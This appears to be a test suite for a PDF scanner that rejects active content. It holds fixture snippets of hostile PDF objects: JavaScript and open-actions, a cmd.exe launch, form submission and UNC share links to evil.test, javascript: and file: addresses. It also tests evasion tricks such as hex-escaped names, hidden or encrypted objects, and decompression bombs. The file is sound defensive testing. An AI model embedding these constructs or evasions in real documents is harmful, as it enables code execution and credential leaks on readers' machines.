import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { bomb, packed, pdfOf, rewritten } from '../../../test/factories/pdfs';
import { pdfProblem } from './problem';

/** Objects that do more than show pages; number 4 is used by the page or the catalog. */
const refused: [string, Record<number, string>][] = [
  ['a script', { 4: '<< /S /JavaScript /JS (app.alert(1)) >>' }],
  [
    'a script that opens with the file',
    {
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      4: '<< /S /JavaScript /JS 5 0 R >>',
      5: '(app.alert(1))',
    },
  ],
  ['a script in the list of names', { 4: '<< /JavaScript << /Names [(a) 5 0 R] >> >>' }],
  ['a script beside a rendition', { 4: '<< /Type /Action /S /Rendition /OP 0 /JS (app.alert(1)) >>' }],
  ['a program to start', { 4: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }],
  [
    'a file of another machine',
    { 4: '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >>' },
  ],
  ['an attached file to open', { 4: '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>' }],
  ['a form to send', { 4: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>' }],
  ['data to take in', { 4: '<< /S /ImportData /F (a.fdf) >>' }],
  ['an attached file', { 4: '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>' }],
  ['a portfolio', { 1: '<< /Type /Catalog /Pages 2 0 R /Collection << /View /D >> >>' }],
  ['a film', { 4: '<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] /Movie << /F (a.mov) >> /A true >>' }],
  ['a screen', { 4: '<< /Type /Annot /Subtype /Screen /Rect [0 0 1 1] >>' }],
  ['a world in three dimensions', { 4: '<< /Subtype /3D /Rect [0 0 1 1] /3DD 5 0 R >>' }],
  ['rich media', { 4: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>' }],
  ['a sound', { 4: '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Sound >> >>' }],
  [
    'an action that nobody knows',
    { 4: '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A 5 0 R >>', 5: '<< /S /Mine >>' },
  ],
  [
    'an action with its kind elsewhere',
    { 4: '<< /Subtype /Link /Rect [0 0 1 1] /A << /S 5 0 R >> >>', 5: '/ResetForm' },
  ],
  ['an action behind another', { 4: '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Thread >>] >>' }],
  ['an action of a field', { 4: '<< /FT /Tx /AA << /K << /S /Hide >> >> >>' }],
  ['a print at once', { 4: '<< /Type /Action /S /Named /N /Print >>' }],
  ['an address that is a script', { 4: '<< /S /URI /URI (java\nscript:alert(1)) >>' }],
  ['an address of a file', { 4: '<< /S /URI /URI (file:///c:/windows/a.exe) >>' }],
  ['an address of a share', { 4: '<< /S /URI /URI 5 0 R >>', 5: '(\\\\\\\\evil.test\\\\a)' }],
];

describe.each(refused)('a PDF with %s', (_, objects) => {
  it('is refused as it stands', async () => {
    expect(await pdfProblem(pdfOf(objects))).toBe('active');
  });

  it('is refused in object streams', async () => {
    expect(await pdfProblem(pdfOf({}, packed(objects)))).toBe('active');
    expect(await pdfProblem(await rewritten(pdfOf(objects), { packed: true }))).toBe('active');
  });

  it('is refused when it is encrypted and everybody can open it', async () => {
    // The library that writes these files leaves texts outside of object streams unencrypted; those are tested below.
    const bytes = await rewritten(pdfOf(objects), { encrypted: true });
    if (!JSON.stringify(objects).includes('/URI')) expect(await pdfProblem(bytes)).toBe('active');
    expect(await pdfProblem(await rewritten(pdfOf(objects), { encrypted: true, packed: true }))).toBe(
      'active',
    );
  });

  it('is refused with its names in disguise', async () => {
    const disguised = Object.entries(objects).map(([number, content]) => [
      number,
      content.replace(/\/([A-Za-z])/g, (_name, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`),
    ]);
    expect(await pdfProblem(pdfOf(Object.fromEntries(disguised)))).toBe('active');
  });
});

const latin = (text: string) => Buffer.from(text, 'latin1');

it('refuses an object before the header', async () => {
  const before = Buffer.from('4 0 obj << /S /JavaScript /JS (a) >>\nendobj\n');
  expect(await pdfProblem(Buffer.concat([before, pdfOf()]))).toBe('active');
});

describe('an object that readers find and a search may miss', () => {
  it.each([
    ['blanks', `4 %\n0 obj${' '.repeat(100)}<< /S /JavaScript /JS (a) >>\nendobj\n`],
    ['a sign that is no value', '4 %\n0 obj << /X } /S /JavaScript /JS (a) >>\nendobj\n'],
    ['parameters elsewhere', packed({ 4: '<< /X 1 >>' }, '/Filter /FlateDecode /DecodeParms 5 0 R')],
    ['two filters', packed({ 4: '<< /X 1 >>' }, '/Filter /FlateDecode /F /AHx')],
    [
      'a lock that another trailer lacks',
      'trailer << /Root 1 0 R /Encrypt 9 0 R /ID [<00> <00>] >>\n9 0 obj << /Filter /Standard /V 4 >>\nendobj\n',
    ],
    ['a key that stands twice', '4 0 obj << /S /URI /URI (file:///a) /URI (https://a.test) >>\nendobj\n'],
    ['a step of a show', '4 0 obj << /NA << /S /Thread /F (a) >> >>\nendobj\n'],
  ])('is refused: %s', async (_, more) => {
    expect(await pdfProblem(pdfOf({}, more))).toMatch(/active|unreadable/);
  });
});

describe('an object that a table hides', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

  it.each<[string, Buffer]>([
    ['in no table', pdfOf({}, `4 0 obj\n${script}\nendobj\n`)],
    [
      'within the bytes of a stream',
      pdfOf({ 4: `<< /Length 80 >>\nstream\n5 0 obj ${script} endobj\nendstream` }),
    ],
    ['behind a later object of its number', pdfOf({}, `4 0 obj ${script} endobj\n4 0 obj << >> endobj\n`)],
    ['with a comment between its numbers', pdfOf({}, `4 % 1\n0 % 2\nobj ${script} endobj\n`)],
    ['with a key that stands twice', pdfOf({ 4: '<< /S /JavaScript /JS (a) /S /URI >>' })],
  ])('is found: %s', async (_, bytes) => {
    expect(await pdfProblem(bytes)).toBe('active');
  });

  it.each<[string, Buffer]>([
    [
      'a compression that no writer uses',
      pdfOf({}, packed({ 4: script }, '/Filter [/ASCIIHexDecode /FlateDecode]')),
    ],
    ['a compression twice', pdfOf({}, packed({ 4: script }, '/Filter [/FlateDecode /FlateDecode]'))],
    [
      'a predictor',
      pdfOf({}, packed({ 4: script }, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    ],
    [
      'nothing that inflates',
      pdfOf({}, '7 0 obj <</N 1 /First 5 /Filter /FlateDecode>> stream\nno deflate endstream'),
    ],
    ['an object that is none', pdfOf({ 4: '<< /A' })],
    [
      'a stream of objects without its kind',
      pdfOf({}, latin(packed({ 4: script }).toString('latin1').replace('/Type /ObjStm', ''))),
    ],
  ])('is not looked for in %s', async (_, bytes) => {
    expect(await pdfProblem(bytes)).toBe('unreadable');
  });
});

it('a base of all addresses is judged as an address', async () => {
  const catalog = '<< /Type /Catalog /Pages 2 0 R /URI << /Base (ms-word:x) >> >>';
  expect(await pdfProblem(pdfOf({ 1: catalog }))).toBe('active');
  expect(await pdfProblem(pdfOf({}, packed({ 1: catalog })))).toBe('active');
});

it.each(['rc4', 'aes'])('an address that is encrypted by %s is read', async (name) => {
  const file = join(__dirname, '../../../test/samples/refused', `address-${name}.pdf`);
  expect(await pdfProblem(await readFile(file))).toBe('active');
});

describe('a PDF that only shows pages', () => {
  it.each<[string, Record<number, string>]>([
    [
      'writes of scripts in a text',
      { 4: '<< /Length 50 >>\nstream\n(HTML/CSS/JavaScript, /JS, /Launch) Tj obj (x)\nendstream' },
    ],
    ['names them as its keywords', { 4: '<< /Keywords (Java/JavaScript) >>' }],
    ['has tags with attributes', { 4: '<< /S /Span /P 3 0 R /A << /O /Layout /Placement /Block >> >>' }],
    ['links to pages', { 4: '<< /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://x.test) >> >>' }],
    ['links beside itself', { 4: '<< /S /URI /URI (other.html) >>' }],
    [
      'begins a mail and a call',
      { 4: '<< /S /URI /URI (mailto:a@x.test) >>', 5: '<< /S /URI /URI (tel:+250) >>' },
    ],
    ['turns a page', { 4: '<< /S /Named /N /NextPage >>' }],
    ['opens at a place', { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>' }],
    [
      'has an outline',
      { 4: '<< /First 5 0 R >>', 5: '<< /Title (a) /Next 6 0 R /A << /S /GoTo /D (x) >> >>', 6: '<< >>' },
    ],
    ['has an empty list of attached files', { 4: '<< /Names << /EmbeddedFiles << /Names [] >> >> >>' }],
  ])('is taken: it %s', async (_, objects) => {
    const bytes = pdfOf(objects);
    expect(await pdfProblem(bytes)).toBeUndefined();
    expect(await pdfProblem(await rewritten(bytes, { packed: true }))).toBeUndefined();
    expect(await pdfProblem(await rewritten(bytes, { packed: true, encrypted: true }))).toBeUndefined();
  });
});

describe('a form that only some programs show', () => {
  const form = pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>', 4: '<< >>' });

  it('is refused with its own advice, however it is written', async () => {
    expect(await pdfProblem(form)).toBe('xfa');
    expect(await pdfProblem(await rewritten(form, { packed: true }))).toBe('xfa');
    expect(await pdfProblem(await rewritten(form, { packed: true, encrypted: true }))).toBe('xfa');
  });
});

describe('a file that would take long', () => {
  it.each(['/a', '1 ', '<<'])('made of %s is given up', async (unit) => {
    expect(await pdfProblem(bomb(unit))).toBe('unreadable');
  });

  it.each<[string, Buffer]>([
    ['lists within lists', pdfOf({ 4: '['.repeat(200_000) })],
    ['references in a ring', pdfOf({ 4: '<< /A 5 0 R /S 5 0 R >>', 5: '4 0 R' })],
    ['objects that overlap', pdfOf({}, overlapping())],
  ])('has an end: %s', async (_, bytes) => {
    expect([undefined, 'active', 'unreadable']).toContain(await pdfProblem(bytes));
  });
});

/** An object stream whose objects all begin at the same offset. */
function overlapping(): Buffer {
  const many = Array.from({ length: 5000 }, (_, index) => `${100 + index} 0`).join(' ');
  const content = `${many} [${'/a '.repeat(20_000)}]`;
  return Buffer.from(
    `50 0 obj << /Type /ObjStm /N 5000 /First ${many.length + 1} >> stream\n${content}\nendstream endobj\n`,
    'latin1',
  );
}
